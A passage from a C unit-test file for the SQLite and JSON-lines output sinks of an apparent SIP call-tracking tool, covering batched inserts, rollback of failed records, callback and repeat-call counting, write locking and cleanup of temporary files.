 * record) are written 16 rows a statement (sqlite.c MULTI_ROWS).  Rows stay
 * in write order around a record of several statements; a commit (flush)
 * holds every row written before it, a partial statement's worth too; and
 * a row that cannot be written (here a trigger refuses it) is lost alone,
 * the other 15 rows of its statement are written, and the write that ran
 * the statement says so.  Values that change, repeat or turn NULL between
 * statements (each parameter keeps its binding when the value is the same)
 * are stored right.
 */
static void test_sqlite_multirow(void)
{
	struct ct_call_record *recs[53], *full = full_record();
	char errbuf[CT_ERRBUF_SIZE] = "", want[4096], id[32];
	const char *path = tmp_path("multi.db");
	sqlite3 *db = NULL;
	void *priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	size_t i, n = 0;
	int ok = 1;

	CHECK(priv != NULL);
	if (priv == NULL)
		goto out;
	for (i = 0; i < 53; i++) {
		recs[i] = empty_record();
		snprintf(id, sizeof(id), "m%02zu", i);
		recs[i]->call_id = strdup(id);
		recs[i]->start_us = T0 + (int64_t)i;
		/* values change, repeat and turn NULL from one statement's row to the next's */
		recs[i]->caller = i == 49 ? strdup("refused") : i % 3 == 0 ? NULL :
		    strdup(i % 3 == 1 ? "100" : "1000");
		recs[i]->invites = (unsigned)(i % 3);
		recs[i]->end_us = recs[i]->start_us + 1234567;   /* duration_s, a real: 1.235 */
	}
	/* 32 rows (two statements), the call with streams, 3 rows: flush commits all 36 in order */
	for (i = 0; i < 32; i++)
		ok &= ct_sink_sqlite.write(priv, recs[i], errbuf) == CT_OK;
	ok &= ct_sink_sqlite.write(priv, full, errbuf) == CT_OK;
	for (i = 32; i < 35; i++)
		ok &= ct_sink_sqlite.write(priv, recs[i], errbuf) == CT_OK;
	CHECK(ok);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 0);
	CHECK_INT(ct_sink_sqlite.flush(priv, errbuf), CT_OK);
	for (i = 0; i < 35; i++) {
		n += (size_t)snprintf(want + n, sizeof(want) - n, "%sm%02zu", i ? "," : "", i);
		if (i == 31)
			n += (size_t)snprintf(want + n, sizeof(want) - n, ",a84b4c76e66710@pc33.example.com");
	}
	CHECK_STR(q_text(db, "SELECT group_concat(call_id) FROM (SELECT call_id FROM calls ORDER BY id)"),
	    want);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE call_id LIKE 'm%'"
	    " AND coalesce(caller, '-') = CASE CAST(substr(call_id, 2) AS INT) % 3 WHEN 0 THEN '-'"
	    " WHEN 1 THEN '100' ELSE '1000' END AND invites = CAST(substr(call_id, 2) AS INT) % 3"
	    " AND duration_s = 1.235 AND start_us - 1709296496123456 = CAST(substr(call_id, 2) AS INT)"
	    " AND disposition = 'unfinished' AND truncated = 1 AND streams = 0"), 35);
	CHECK_INT(q_int(db, "SELECT count(*) FROM rtp_streams"), 2);
	/* a trigger refuses one row of the next statement (rows 35-50; row 49) */
	CHECK_INT(sqlite3_exec(db, "CREATE TRIGGER refuse BEFORE INSERT ON calls"
	    " WHEN NEW.caller = 'refused' BEGIN SELECT RAISE(ABORT, 'row refused'); END;",
	    NULL, NULL, NULL), SQLITE_OK);
	for (i = 35, ok = 1; i < 50; i++)
		ok &= ct_sink_sqlite.write(priv, recs[i], errbuf) == CT_OK;
	CHECK(ok);
	CHECK_INT(ct_sink_sqlite.write(priv, recs[50], errbuf), CT_ERR);
	snprintf(want, sizeof(want), "cannot write to database '%s': row refused (1 records lost)", path);
	CHECK_STR(errbuf, want);
	for (i = 51, ok = 1; i < 53; i++)
		ok &= ct_sink_sqlite.write(priv, recs[i], errbuf) == CT_OK;
	CHECK(ok);
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 36 + 17);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE call_id = 'm49'"), 0);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE call_id LIKE 'm%'"
	    " AND coalesce(caller, '-') = CASE CAST(substr(call_id, 2) AS INT) % 3 WHEN 0 THEN '-'"
	    " WHEN 1 THEN '100' ELSE '1000' END AND invites = CAST(substr(call_id, 2) AS INT) % 3"
	    " AND duration_s = 1.235"), 52);
	CHECK_INT(q_int(db, "SELECT count(*) FROM (SELECT id, call_id, lag(call_id) OVER (ORDER BY id)"
	    " AS prev FROM calls WHERE call_id LIKE 'm%') WHERE prev IS NOT NULL AND prev >= call_id"), 0);
	sqlite3_close(db);
	for (i = 0; i < 53; i++)
		ct_call_record_free(recs[i]);
out:
	ct_call_record_free(full);
}

/* A record that fails half-way (streams table gone) is rolled back alone. */
static void test_sqlite_partial(void)
{
	struct ct_call_record *full = full_record(), *empty = empty_record();
	char errbuf[CT_ERRBUF_SIZE] = "", want[CT_ERRBUF_SIZE];
	const char *path = tmp_path("partial.db");
	sqlite3 *db = NULL;
	void *priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);

	CHECK(priv != NULL);
	if (priv == NULL)
		goto out;
	CHECK_INT(ct_sink_sqlite.write(priv, empty, errbuf), CT_OK);
	CHECK_INT(ct_sink_sqlite.flush(priv, errbuf), CT_OK);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	CHECK_INT(sqlite3_exec(db, "DROP TABLE rtp_streams", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);
	CHECK_INT(ct_sink_sqlite.write(priv, empty, errbuf), CT_OK);
	CHECK_INT(ct_sink_sqlite.write(priv, full, errbuf), CT_ERR);
	snprintf(want, sizeof(want), "cannot write to database '%s': ", path);
	CHECK(strncmp(errbuf, want, strlen(want)) == 0);
	CHECK(strstr(errbuf, "rtp_streams") != NULL);
	CHECK_INT(ct_sink_sqlite.write(priv, empty, errbuf), CT_OK);
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 3);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE call_id IS NOT NULL"), 0);
	sqlite3_close(db);
out:
	ct_call_record_free(full);
	ct_call_record_free(empty);
}

/* A call for the callback tests: direction, disposition, times in seconds. */
static struct ct_call_record *cb_call(const char *id, const char *caller, const char *caller_num,
    const char *callee, const char *callee_num, enum ct_direction dir, enum ct_disposition d,
    int start_s, int end_s)
{
	struct ct_call_record *r = empty_record();

	r->call_id = strdup(id);
	r->caller = strdup(caller);
	r->caller_number = caller_num != NULL ? strdup(caller_num) : NULL;
	r->callee = strdup(callee);
	r->callee_number = callee_num != NULL ? strdup(callee_num) : NULL;
	r->direction = dir;
	r->disposition = d;
	r->start_us = T0 + (int64_t)start_s * 1000000;
	r->end_us = T0 + (int64_t)end_s * 1000000;
	return r;
}

/*
 * The store sets callback_s of the missed calls an outbound call answers:
 * the call named by callback_of, and the other missed calls of the same
 * caller_number (whatever their caller text), or, for rows without a
 * number, of the same caller text; never a call that ended after the
 * callback started, an answered call, or one that has a callback already.
 */
static void test_sqlite_callbacks(void)
{
	const char *path = tmp_path("cb.db");
	struct ct_call_record *r[8];
	char errbuf[CT_ERRBUF_SIZE] = "";
	sqlite3 *db = NULL;
	size_t i;

	r[0] = cb_call("m1", "0441234567", "+380441234567", "100", "100", CT_DIR_INBOUND,
	    CT_DISP_BUSY, 0, 10);
	r[1] = cb_call("m2", "+380 44 123 4567", "+380441234567", "100", "100", CT_DIR_INBOUND,
	    CT_DISP_NOANSWER, 20, 30);
	r[2] = cb_call("a1", "0441234567", "+380441234567", "100", "100", CT_DIR_INBOUND,
	    CT_DISP_ANSWERED, 40, 50);
	r[3] = cb_call("x1", "anonymous", NULL, "100", "100", CT_DIR_INBOUND,
	    CT_DISP_CANCELLED, 41, 51);
	r[4] = cb_call("t1", "old-text", NULL, "100", "100", CT_DIR_INBOUND,
	    CT_DISP_BUSY, 42, 52);
	r[5] = cb_call("o1", "2001", NULL, "380441234567", "+380441234567", CT_DIR_OUTBOUND,
	    CT_DISP_ANSWERED, 60, 90);
	r[5]->callback_of = strdup("m2");
	r[6] = cb_call("m3", "0441234567", "+380441234567", "100", "100", CT_DIR_INBOUND,
	    CT_DISP_BUSY, 55, 65);       /* ended after o1 started */
	r[7] = cb_call("o2", "2001", NULL, "old-text", NULL, CT_DIR_OUTBOUND,
	    CT_DISP_ANSWERED, 70, 80);
	r[7]->callback_of = strdup("t1");
	unlink(path);
	CHECK_INT(run_sink(&ct_sink_sqlite, path, r, 8, errbuf), CT_OK);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	CHECK_STR(q_text(db, "SELECT group_concat(call_id || '=' || coalesce(callback_s, '-'), ' ')"
	    " FROM (SELECT * FROM calls ORDER BY id)"),
	    "m1=50.0 m2=30.0 a1=- x1=- t1=18.0 o1=- m3=- o2=-");
	sqlite3_close(db);
	for (i = 0; i < 8; i++)
		ct_call_record_free(r[i]);
}

/*
 * The store's transaction holds the write lock from its first record on:
 * a call with a history is looked up (later_calls) before its row is
 * written, and its row may wait for the multi-row INSERT; had the
 * transaction only read by then, another writer's commit in between would
 * make that INSERT fail (SQLITE_BUSY_SNAPSHOT) and lose the rows waiting.
 * Another writer waits (here: is refused at once) until the commit.
 */
static void test_sqlite_write_lock(void)
{
	const char *path = tmp_path("lock.db");
	char errbuf[CT_ERRBUF_SIZE] = "";
	struct ct_call_record *r;
	sqlite3 *db = NULL;
	void *priv;

	unlink(path);
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv == NULL)
		return;
	r = cb_call("k1", "+15550009", "+15550009", "100", "100", CT_DIR_INBOUND, CT_DISP_BUSY, 10, 20);
	r->has_history = true;
	r->first_call = true;
	CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
	ct_call_record_free(r);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	CHECK_INT(sqlite3_exec(db, "INSERT INTO meta (key, value) VALUES ('other', 'writer')",
	    NULL, NULL, NULL), SQLITE_BUSY);
	CHECK_INT(ct_sink_sqlite.flush(priv, errbuf), CT_OK);
	CHECK_INT(sqlite3_exec(db, "INSERT INTO meta (key, value) VALUES ('other', 'writer')",
	    NULL, NULL, NULL), SQLITE_OK);
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE call_id = 'k1'"), 1);
	sqlite3_close(db);
	unlink(path);
}

/* Record i of the shapes test: the columns set depend on i (see test_sqlite_shapes). */
static struct ct_call_record *shape_record(size_t i)
{
	struct ct_call_record *r = empty_record();
	char id[32];

	snprintf(id, sizeof(id), "n%03zu", i);
	r->call_id = strdup(id);
	r->start_us = T0 + (int64_t)i * 1000;
	r->invites = (unsigned)(i % 3);
	set_v4(&r->src_ip, 192, 0, 2, (uint8_t)(i % 7));
	r->src_port = 5060;
	if (i >= 96 && i < 112 && i % 5 == 0)
		r->caller = strdup("x");                 /* one batch of another shape */
	if (i >= 200)
		r->end_us = r->start_us + 1234567;       /* a third shape: end_time, duration_s */
	if (i == 250)
		r->caller_name = strdup("J\xc3\xbcrgen");
	/* texts of one length that change (copied over the bound one), now and then another length */
	r->callee = strdup(i % 7 == 3 ? "1234" : i % 2 ? "200" : "301");
	return r;
}

/*
 * Rows of one shape (the same columns NULL in every row of a batch, as a
 * flood's) are inserted by a multi-row statement of their other columns
 * only (sqlite.c ins_narrow, after NARROW_AFTER batches): the rows stored
 * are the ones the one-row INSERT stores, column for column, whatever the
 * shapes and their changes; and in write order.
 */
static void test_sqlite_shapes(void)
{
	const char *batched = tmp_path("shapes.db"), *single = tmp_path("single.db");
	char errbuf[CT_ERRBUF_SIZE] = "", sql[512];
	struct ct_call_record *r;
	sqlite3 *db = NULL;
	void *a, *b;
	size_t i, n = 300;
	int ok = 1;

	unlink(batched);
	unlink(single);
	a = ct_sink_open_target(&ct_sink_sqlite, batched, errbuf);
	b = ct_sink_open_target(&ct_sink_sqlite, single, errbuf);
	CHECK(a != NULL && b != NULL);
	if (a == NULL || b == NULL)
		return;
	for (i = 0; i < n; i++) {
		r = shape_record(i);
		ok &= ct_sink_sqlite.write(a, r, errbuf) == CT_OK;
		/* a flush after each record: every row by the one-row INSERT */
		ok &= ct_sink_sqlite.write(b, r, errbuf) == CT_OK;
		ok &= ct_sink_sqlite.flush(b, errbuf) == CT_OK;
		ct_call_record_free(r);
	}
	CHECK(ok);
	CHECK_INT(ct_sink_sqlite.close(a, errbuf), CT_OK);
	CHECK_INT(ct_sink_sqlite.close(b, errbuf), CT_OK);
	CHECK_INT(sqlite3_open_v2(batched, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	snprintf(sql, sizeof(sql), "ATTACH '%s' AS s", single);
	CHECK_INT(sqlite3_exec(db, sql, NULL, NULL, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), (long long)n);
	CHECK_INT(q_int(db, "SELECT count(*) FROM s.calls"), (long long)n);
	/* the same rows, ids included (write order), and the same types */
	CHECK_INT(q_int(db, "SELECT count(*) FROM (SELECT * FROM calls EXCEPT SELECT * FROM s.calls)"), 0);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls c JOIN s.calls d USING (id) WHERE"
	    " typeof(c.end_time) <> typeof(d.end_time) OR typeof(c.duration_s) <> typeof(d.duration_s)"
	    " OR typeof(c.caller) <> typeof(d.caller) OR typeof(c.invites) <> typeof(d.invites)"), 0);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE caller = 'x'"), 3);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE end_time IS NOT NULL"
	    " AND duration_s = 1.235"), 100);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE id = CAST(substr(call_id, 2) AS INT) + 1"),
	    (long long)n);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE callee = CASE WHEN (id - 1) % 7 = 3"
	    " THEN '1234' WHEN (id - 1) % 2 = 1 THEN '200' ELSE '301' END"), (long long)n);
	sqlite3_close(db);
	unlink(batched);
	unlink(single);
}

/*
 * A call stored after later calls of its caller gives each of them one
 * more earlier call (sqlite.c upd_repeat), whether those are still waiting
 * for the multi-row INSERT (a call with a history and nothing to update
 * waits, as a flood INVITE's) or in the database already; calls of other
 * callers and calls that start before it are left alone.
 */
static void test_sqlite_repeat_order(void)
{
	static const struct { const char *id, *num; int start_s; unsigned rep; } c[] = {
		{ "h1", "+15550001", 100, 0 }, { "h2", "+15550001", 200, 1 },
		{ "g1", "+15550002", 300, 0 },
		{ "h0", "+15550001", 50, 0 },     /* h1, h2 wait for the statement */
		{ "hx", "+15550001", 10, 0 },     /* after flush: h0, h1, h2 are stored */
		{ "h3", "+15550001", 400, 4 },    /* nothing to update: waits */
	};
	const char *path = tmp_path("rep.db");
	char errbuf[CT_ERRBUF_SIZE] = "";
	sqlite3 *db = NULL;
	void *priv;
	size_t i;

	unlink(path);
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv == NULL)
		return;
	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		struct ct_call_record *r = cb_call(c[i].id, c[i].num, c[i].num, "100", "100",
		    CT_DIR_INBOUND, CT_DISP_BUSY, c[i].start_s, c[i].start_s + 5);

		r->has_history = true;
		r->repeat_count = c[i].rep;
		r->first_call = c[i].rep == 0;
		CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
		if (strcmp(c[i].id, "h0") == 0)
			CHECK_INT(ct_sink_sqlite.flush(priv, errbuf), CT_OK);
		ct_call_record_free(r);
	}
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	CHECK_STR(q_text(db, "SELECT group_concat(call_id || '=' || first_call || '/' || repeat_count,"
	    " ' ') FROM (SELECT * FROM calls ORDER BY id)"),
	    "h1=0/2 h2=0/3 g1=1/0 h0=0/1 hx=1/0 h3=0/4");
	sqlite3_close(db);
	unlink(path);
}

/*
 * The later calls a record raises are raised once per row at the commit
 * (sqlite.c rep_ids, apply_repeats), with the counts the per-record
 * UPDATE gave: a row raised by many records of one transaction, at most
 * the 64 (CT_SQL_REPEAT_MAX) later calls that start first (ties in id
 * order), rows stored in the same transaction, a flush in between, more
 * raises than rep_ids holds (65,536: applied before the commit), and
 * another caller's calls left alone.  The expected counts come from the
 * rule itself, computed here over the rows in the order they are written.
 */
static void test_sqlite_repeat_batch(void)
{
	enum { N = 2000, FLUSH_AT = 700, MAXR = 64 };
	static struct { char id[16]; int num; int start; int rep; int first; } m[N];
	const char *path = tmp_path("repb.db");
	char errbuf[CT_ERRBUF_SIZE] = "";
	sqlite3 *db = NULL;
	sqlite3_stmt *st;
	int i, j, k, rows = 0, bad = 0, capped = 0;
	void *priv;

	unlink(path);
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv == NULL)
		return;
	for (i = 0; i < N; i++) {
		struct ct_call_record *r;
		int later[N], nl = 0;

		snprintf(m[i].id, sizeof(m[i].id), "r%d", i);
		m[i].num = i % 5 == 4;                  /* one call in five: another caller */
		m[i].start = 10 + (int)(((unsigned)i * 7919u) % 2003u) / 2;   /* ties too */
		m[i].rep = 0;
		m[i].first = 1;
		/* the rule: the later calls stored before, by start then id, the first 64 */
		for (j = 0; j < i; j++)
			if (m[j].num == m[i].num && m[j].start > m[i].start)
				later[nl++] = j;
		for (j = 1; j < nl; j++)           /* insertion sort by (start, id) */
			for (k = j; k > 0 && (m[later[k - 1]].start > m[later[k]].start); k--) {
				int t = later[k];

				later[k] = later[k - 1];
				later[k - 1] = t;
			}
		capped += nl > MAXR;
		for (j = 0; j < nl && j < MAXR; j++) {
			m[later[j]].rep++;
			m[later[j]].first = 0;
		}
		r = cb_call(m[i].id, m[i].num ? "+15550002" : "+15550001",
		    m[i].num ? "+15550002" : "+15550001", "100", "100", CT_DIR_INBOUND,
		    CT_DISP_ANSWERED, m[i].start, m[i].start + 5);
		r->has_history = true;
		r->repeat_count = 0;
		r->first_call = true;
		CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
		ct_call_record_free(r);
		if (i == FLUSH_AT)
			CHECK_INT(ct_sink_sqlite.flush(priv, errbuf), CT_OK);
	}
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	CHECK_INT(sqlite3_prepare_v2(db, "SELECT call_id, repeat_count, first_call FROM calls"
	    " ORDER BY id", -1, &st, NULL), SQLITE_OK);
	while (sqlite3_step(st) == SQLITE_ROW && rows < N) {
		const char *id = (const char *)sqlite3_column_text(st, 0);

		if (id == NULL || strcmp(id, m[rows].id) != 0 ||
		    sqlite3_column_int(st, 1) != m[rows].rep || sqlite3_column_int(st, 2) != m[rows].first)
			bad++;
		rows++;
	}
	sqlite3_finalize(st);
	CHECK_INT(rows, N);
	CHECK_INT(bad, 0);
	/* the data does exercise the rule: more raises than rep_ids holds, some capped */
	for (i = 0, j = 0; i < N; i++)
		j += m[i].rep;
	CHECK(j > 65536);
	CHECK(capped > 0);
	sqlite3_close(db);
	unlink(path);
}

/*
 * later_calls skips its SELECT for a record that starts after every stored
 * row (sqlite.c later_max): a call that starts before a stored one still
 * updates it, and so does one after a row another connection committed
 * (PRAGMA data_version) though it starts after every row this one wrote.
 */
static void test_sqlite_later_max(void)
{
	static const struct { const char *id; int start_s; unsigned rep; } c[] = {
		{ "a1", 100, 0 }, { "a2", 300, 1 }, { "flush", 0, 0 },
		{ "a3", 200, 1 },                 /* before a2: a2 gets one more */
		{ "a4", 400, 3 }, { "flush", 0, 0 },
		{ "other", 0, 0 },                /* another connection stores x9 at 1000 */
		{ "a5", 500, 4 },                 /* after all of ours, before x9 */
	};
	const char *path = tmp_path("later.db");
	char errbuf[CT_ERRBUF_SIZE] = "";
	sqlite3 *db = NULL;
	void *priv;
	size_t i;

	unlink(path);
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv == NULL)
		return;
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
		struct ct_call_record *r;

		if (strcmp(c[i].id, "flush") == 0) {
			CHECK_INT(ct_sink_sqlite.flush(priv, errbuf), CT_OK);
			continue;
		}
		if (strcmp(c[i].id, "other") == 0) {
			CHECK_INT(sqlite3_exec(db, "INSERT INTO calls (call_id, caller_number, start_us,"
			    " repeat_count, first_call) VALUES ('x9', '+15550001', 1709296496123456 +"
			    " 1000000000, 5, 0)", NULL, NULL, NULL), SQLITE_OK);
			continue;
		}
		r = cb_call(c[i].id, "+15550001", "+15550001", "100", "100", CT_DIR_INBOUND,
		    CT_DISP_BUSY, c[i].start_s, c[i].start_s + 5);
		r->has_history = true;
		r->repeat_count = c[i].rep;
		r->first_call = c[i].rep == 0;
		CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
		ct_call_record_free(r);
	}
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_STR(q_text(db, "SELECT group_concat(call_id || '/' || repeat_count, ' ')"
	    " FROM (SELECT * FROM calls ORDER BY id)"), "a1/0 a2/2 a3/1 a4/3 x9/6 a5/4");
	sqlite3_close(db);
	unlink(path);
}

/*
 * A calls table rebuilt by hand with a DEFAULT (here on sensor, NULL in
 * every record) still gets NULL there: a column is left out of the insert
 * (ins_narrow) only when no column has a DEFAULT.
 */
static void test_sqlite_default(void)
{
	const char *path = tmp_path("dflt.db");
	char errbuf[CT_ERRBUF_SIZE] = "", *create;
	sqlite3_stmt *st = NULL;
	sqlite3 *db = NULL;
	void *priv;
	size_t i;
	int ok = 1;

	unlink(path);
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv == NULL)
		return;
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	CHECK_INT(sqlite3_prepare_v2(db, "SELECT replace(sql, 'sensor TEXT', 'sensor TEXT DEFAULT"
	    " ''dflt''') FROM sqlite_master WHERE name = 'calls'", -1, &st, NULL), SQLITE_OK);
	CHECK_INT(sqlite3_step(st), SQLITE_ROW);
	create = strdup((const char *)sqlite3_column_text(st, 0));
	sqlite3_finalize(st);
	CHECK(create != NULL && strstr(create, "DEFAULT 'dflt'") != NULL);
	CHECK_INT(sqlite3_exec(db, "DROP TABLE calls", NULL, NULL, NULL), SQLITE_OK);
	CHECK_INT(sqlite3_exec(db, create, NULL, NULL, NULL), SQLITE_OK);
	free(create);
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	for (i = 0; priv != NULL && i < 200; i++) {
		struct ct_call_record *r = shape_record(i);

		ok &= ct_sink_sqlite.write(priv, r, errbuf) == CT_OK;
		ct_call_record_free(r);
	}
	CHECK(ok);
	if (priv != NULL)
		CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 200);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE sensor IS NULL"), 200);
	sqlite3_close(db);
	unlink(path);
}

static void cleanup(void)
{
	DIR *d = opendir(tmpdir);
	struct dirent *de;

	/* every file the tests left, whatever its name (a list missed some) */
	while (d != NULL && (de = readdir(d)) != NULL)
		if (strcmp(de->d_name, ".") != 0 && strcmp(de->d_name, "..") != 0)
			unlink(tmp_path(de->d_name));
	if (d != NULL)
		closedir(d);
	CHECK_INT(rmdir(tmpdir), 0);
}

/*
 * --orphans: one stream object per line; an injected stream carries
 * "injected_into" (the Call-ID, JSON-escaped) as its last key, others not.
 */
static void test_orphans_sink(void)
{
	struct ct_stream_stats st;
	char errbuf[CT_ERRBUF_SIZE] = "";
	const char *text, *nl;
	void *priv;

	priv = ct_sink_open_target(&ct_sink_orphans, tmp_path("orph.jsonl"), errbuf);
	CHECK(priv != NULL);
	if (priv == NULL)
		return;
	memset(&st, 0, sizeof(st));
	st.payload_type = 0;
	st.packets = 20;
	st.src.family = st.dst.family = 4;
	CHECK_INT(ct_sink_orphans.write_orphan(priv, &st, errbuf), CT_OK);
	snprintf(st.injected_into, sizeof(st.injected_into), "inj\"-1@x");
	CHECK_INT(ct_sink_orphans.write_orphan(priv, &st, errbuf), CT_OK);
	CHECK_INT(ct_sink_orphans.close(priv, errbuf), CT_OK);
	text = slurp(tmp_path("orph.jsonl"));
	CHECK(text != NULL);
	if (text == NULL)
		return;
	nl = strchr(text, '\n');
	CHECK(strstr(text, "\"packets\":20,") != NULL);
	CHECK(nl != NULL && strncmp(nl - 1, "}\n{", 3) == 0);
	CHECK(strstr(text, ",\"injected_into\":\"inj\\\"-1@x\"}\n") != NULL);
	CHECK(nl != NULL && strstr(text, "injected_into") > nl);
}

int main(void)
{
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/ct_sink_XXXXXX");
	if (mkdtemp(tmpdir) == NULL) {
		perror("mkdtemp");
		return 1;
	}
	test_buf();
	test_one_line();
	test_time_iso();
	test_durations();
	test_names();
	test_record_room();
	test_json();
	test_json_sink();
	test_csv_sink();
	test_table_sink();
	test_table_order();
	test_csv_injection();
	test_table_controls();
	test_sink_cut_back();
	test_outfile_writeback();
	test_sqlite_sink();
	test_sqlite_batch();
	test_sqlite_flood_pages();
	test_sqlite_partial();
	test_sqlite_multirow();
	test_sqlite_commit_time();
	test_sqlite_callbacks();
	test_sqlite_repeat_order();
	test_sqlite_repeat_batch();
	test_sqlite_later_max();
	test_sqlite_shapes();
	test_sqlite_write_lock();
	test_sqlite_default();
	test_orphans_sink();
	cleanup();
	return TEST_REPORT();
}
